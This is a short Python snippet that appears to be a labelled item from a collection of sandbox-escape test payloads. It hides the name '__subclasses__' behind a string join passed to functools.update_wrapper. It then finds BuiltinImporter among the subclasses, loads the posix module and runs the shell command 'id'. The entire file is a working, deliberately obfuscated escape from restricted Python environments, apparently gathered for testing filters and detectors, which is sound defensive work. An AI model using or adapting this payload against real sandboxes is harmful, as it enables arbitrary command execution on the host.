# HARM: shell via BuiltinImporter | TRICK: d21 variant - functools.update_wrapper with positional assigned/updated tuples and name via ''.join
import functools
class Base: pass
class A(Base): pass
functools.update_wrapper(Base, object, (''.join(['__', 'subclasses', '__']),), ())
for k in Base.__subclasses__():
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
